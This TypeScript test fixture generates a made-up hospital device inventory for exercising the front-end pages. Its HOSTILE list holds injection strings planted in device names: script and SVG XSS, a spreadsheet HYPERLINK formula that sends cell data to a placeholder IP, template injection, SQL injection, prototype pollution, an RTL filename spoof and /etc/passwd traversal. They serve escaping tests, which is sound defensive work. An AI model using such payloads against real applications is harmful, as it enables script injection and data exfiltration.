/**
 * A made-up inventory for developing and testing the pages without a server: the same devices every time, made one by
 * one from their number, so that 100,000 cost nothing until they are asked for. Among them hostile names, unknowns and
 * conflicts. Not a simulation of a hospital (that is sim/) and never shipped.
 */

import type { AssetRow } from '../../src/model/api.ts';
import { ATTRIBUTE_NAMES, type AttributeName } from '../../src/model/attribute.ts';

/** The moment at which the made-up hospital stands still. */
export const NOW_MS = Date.UTC(2026, 10, 20, 3, 4, 5);
const DAY_MS = 86_400_000;

export interface TypeInfo {
  readonly id: string;
  readonly label: string;
  readonly category: string;
  readonly makers: readonly (readonly [string, ...string[]])[];
}
export const TYPES: readonly TypeInfo[] = [
  {
    id: 'infusion-pump',
    label: 'Infusion pump',
    category: 'medical',
    makers: [
      ['B. Braun', 'Spaceplus', 'Perfusor Space'],
      ['BD', 'Alaris GW'],
      ['Fresenius Kabi', 'Agilia'],
    ],
  },
  {
    id: 'patient-monitor',
    label: 'Patient monitor',
    category: 'medical',
    makers: [
      ['Philips', 'IntelliVue MX750', 'IntelliVue MX550'],
      ['GE HealthCare', 'CARESCAPE B650'],
      ['Dräger', 'Infinity M540'],
    ],
  },
  {
    id: 'ventilator',
    label: 'Ventilator',
    category: 'medical',
    makers: [
      ['Dräger', 'Evita V800'],
      ['Hamilton Medical', 'HAMILTON-C6'],
    ],
  },
  {
    id: 'ct-scanner',
    label: 'CT scanner',
    category: 'medical',
    makers: [
      ['Siemens Healthineers', 'SOMATOM Force'],
      ['Canon Medical', 'Aquilion ONE'],
    ],
  },
  {
    id: 'mr-scanner',
    label: 'MR scanner',
    category: 'medical',
    makers: [
      ['Siemens Healthineers', 'MAGNETOM Vida'],
      ['Philips', 'Ingenia 3.0T'],
    ],
  },
  {
    id: 'ultrasound',
    label: 'Ultrasound system',
    category: 'medical',
    makers: [
      ['GE HealthCare', 'LOGIQ E10'],
      ['Samsung Medison', 'HS60'],
    ],
  },
  {
    id: 'pacs',
    label: 'Image archive (PACS)',
    category: 'it',
    makers: [
      ['Sectra', 'PACS Core'],
      ['Agfa HealthCare', 'Enterprise Imaging'],
    ],
  },
  {
    id: 'dialysis-machine',
    label: 'Dialysis machine',
    category: 'medical',
    makers: [
      ['Fresenius Medical Care', '6008 CAREsystem'],
      ['B. Braun', 'Dialog iQ'],
    ],
  },
  {
    id: 'analyzer',
    label: 'Laboratory analyser',
    category: 'laboratory',
    makers: [
      ['Roche Diagnostics', 'cobas 8000'],
      ['Sysmex', 'XN-1000'],
      ['Abbott', 'Alinity ci'],
    ],
  },
  {
    id: 'workstation',
    label: 'Workstation',
    category: 'it',
    makers: [
      ['Dell', 'OptiPlex 7010'],
      ['HP', 'EliteDesk 800'],
      ['Lenovo', 'ThinkCentre M70'],
    ],
  },
  {
    id: 'printer',
    label: 'Printer',
    category: 'it',
    makers: [
      ['HP', 'LaserJet M507'],
      ['Zebra', 'ZD621'],
    ],
  },
  {
    id: 'switch',
    label: 'Network switch',
    category: 'network',
    makers: [
      ['Cisco', 'Catalyst 9300'],
      ['Aruba', 'CX 6300M'],
    ],
  },
  {
    id: 'bms-controller',
    label: 'Building controller',
    category: 'building',
    makers: [
      ['Siemens', 'PXC4'],
      ['Honeywell', 'CIPer 30'],
    ],
  },
  {
    id: 'ip-camera',
    label: 'IP camera',
    category: 'iot',
    makers: [
      ['Axis', 'P3265-LV'],
      ['Bosch', 'FLEXIDOME 5100i'],
    ],
  },
];
const WEIGHTS = [22, 18, 5, 1, 1, 5, 1, 4, 5, 20, 8, 3, 4, 3] as const;
export const UNITS = [
  'Intensive care',
  'Emergency',
  'Radiology',
  'Cardiology',
  'Surgery',
  'Dialysis',
  'Laboratory',
  'Neonatology',
  'Maternity',
  'Oncology',
  'Facilities',
] as const;
export const SITES = [
  { id: 'north', name: 'North Hospital', timeZone: 'Europe/Berlin' },
  { id: 'south', name: 'South Clinic', timeZone: 'Europe/Berlin' },
] as const;

/** Texts that a device could announce to harm the pages, each once among the first devices and then now and then. */
export const HOSTILE: readonly string[] = [
  '<img src=x onerror="window.__pwn=1">',
  '"><svg/onload=window.__pwn=2>',
  "javascript:window.__pwn=3//'",
  '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
  '{{constructor.constructor("window.__pwn=4")()}}',
  '$' + '{window.__pwn=5}',
  "' OR 1=1--",
  '__proto__',
  'pump\\u{202e}fdp.exe',
  '../../etc/passwd',
  '</script><script>window.__pwn=6</script>',
  'Ein ausserordentlich langer Gerätename der Intensivüberwachungszentrale im Erdgeschoss Haus 7 Zimmer 0123 Bettplatz 4',
];

/** A number in 0..1 from a seed: the same for the same seed (mulberry32). */
export function chance(seed: number): number {
  let a = (seed + 0x6d2b79f5) | 0;
  a = Math.imul(a ^ (a >>> 15), a | 1);
  a ^= a + Math.imul(a ^ (a >>> 7), a | 61);
  return ((a ^ (a >>> 14)) >>> 0) / 4_294_967_296;
}
export const pick = <T>(list: readonly T[], seed: number): T => list[Math.floor(chance(seed) * list.length)] as T;
const hex = (n: number, width: number): string => n.toString(16).padStart(width, '0');

function typeOf(index: number): TypeInfo {
  let at = chance(index * 7 + 1) * 100;
  for (const [i, weight] of WEIGHTS.entries()) {
    at -= weight;
    if (at < 0) return TYPES[i] as TypeInfo;
  }
  return TYPES[0] as TypeInfo;
}

const BLANK: AssetRow['values'] = Object.fromEntries(ATTRIBUTE_NAMES.map((n) => [n, null])) as AssetRow['values'];
const PROTOCOLS_OF: Readonly<Record<string, readonly string[]>> = {
  medical: ['arp', 'dhcp', 'hl7', 'ntp'],
  laboratory: ['arp', 'dhcp', 'hl7'],
  it: ['arp', 'dhcp', 'dns', 'smb', 'tls'],
  network: ['arp', 'lldp', 'snmp', 'ssh'],
  building: ['arp', 'bacnet', 'modbus'],
  iot: ['arp', 'dhcp', 'http', 'mdns'],
};

interface Addresses {
  readonly mac: string;
  readonly ips: readonly string[];
  readonly vlan: number;
}
export function addressesOf(index: number): Addresses {
  const vlan = 100 + (index % 12);
  const ip = `10.${20 + (index % 12)}.${Math.floor(index / 12 / 250) % 256}.${(Math.floor(index / 12) % 250) + 2}`;
  const second = chance(index * 3 + 11) < 0.2 ? [`10.90.${Math.floor(index / 250) % 256}.${(index % 250) + 2}`] : [];
  return {
    mac: `00:1b:${hex(index % 13, 2)}:${hex((index >> 16) & 255, 2)}:${hex((index >> 8) & 255, 2)}:${hex(index & 255, 2)}`,
    ips: [ip, ...second],
    vlan,
  };
}

const typed = (type: TypeInfo, index: number, known: (n: number) => boolean) => {
  const maker = pick(type.makers, index * 5 + 3);
  return {
    category: type.category,
    type: type.id,
    manufacturer: known(2) ? maker[0] : null,
    model: known(3) ? pick(maker.slice(1), index * 5 + 4) : null,
    serial: known(4) ? `SN${100000 + index * 37}` : null,
    software_version: known(5) ? `${1 + (index % 5)}.${index % 10}.${index % 7}` : null,
    firmware_version: known(6) ? `${index % 4}.${index % 9}` : null,
    os: known(7) ? pick(['Windows 10 22H2', 'Windows 7 SP1', 'Linux', 'VxWorks 7', 'QNX'], index) : null,
  };
};

/** Device `index` as a table row. `hostile` false for the part of the list that screenshots show. */
export function rowAt(index: number): AssetRow {
  const type = typeOf(index);
  const known = (n: number): boolean => chance(index * 31 + n) > 0.1 * (1 + (n % 4));
  const typeKnown = chance(index * 17 + 2) > 0.08;
  const { mac, ips, vlan } = addressesOf(index);
  const hostile = index % 97 === 5 ? (HOSTILE[Math.floor(index / 97) % HOSTILE.length] ?? null) : null;
  const hostname =
    hostile ??
    (known(1)
      ? `${type.id.slice(0, 3)}-${UNITS[index % UNITS.length]?.slice(0, 3).toLowerCase()}-${String(index).padStart(4, '0')}`
      : null);
  const maker = typeKnown ? typed(type, index, known) : {};
  const lastMs = NOW_MS - Math.floor(chance(index * 13) ** 4 * 20 * DAY_MS) - 30_000;
  const firstMs = Math.min(lastMs - 60_000, NOW_MS - Math.floor(chance(index * 19) ** 0.5 * 90 * DAY_MS));
  const values: AssetRow['values'] = {
    ...BLANK,
    ...maker,
    name: hostname ?? `${typeKnown ? type.label : 'Device'} ${ips[0]}`,
    hostname,
    unit: chance(index * 23) > 0.15 ? (UNITS[index % UNITS.length] ?? null) : null,
    location:
      hostile !== null ? hostile : known(3) && chance(index) < 0.3 ? `Building ${index % 7}, floor ${index % 5}` : null,
    macs: [mac],
    mac_vendors: [pick(['Koninklijke Philips', 'Siemens AG', 'Dell Inc.', 'Moxa Inc.'], index)],
    ips,
    vlans: [String(vlan)],
    ae_titles:
      type.id === 'ct-scanner' || type.id === 'mr-scanner' || type.id === 'pacs'
        ? [`${type.id.slice(0, 2).toUpperCase()}${index % 100}`]
        : [],
    hl7_applications: type.category === 'laboratory' ? [`LAB${index % 20}`] : [],
    protocols: PROTOCOLS_OF[type.category] ?? [],
    services: type.id === 'pacs' ? ['tcp/104 dicom', 'tcp/443 tls'] : type.category === 'it' ? ['tcp/445 smb'] : [],
    roles: type.id === 'pacs' ? ['dicom-scp'] : [],
    tags: [],
    first_seen: new Date(firstMs).toISOString(),
    last_seen: new Date(lastMs).toISOString(),
  };
  const confidence: Partial<Record<AttributeName, number>> = {};
  for (const name of ATTRIBUTE_NAMES)
    if (values[name] !== null)
      confidence[name] = Math.round((0.35 + chance(index * 41 + name.length) * 0.64) * 100) / 100;
  const conflicts: AttributeName[] = typeKnown && index % 29 === 4 ? ['manufacturer', 'model'] : [];
  return {
    id: `dev-${index}`,
    site: index % 5 === 4 ? 'south' : 'north',
    values,
    confidence,
    conflicts: conflicts.filter((n) => values[n] !== null),
  };
}
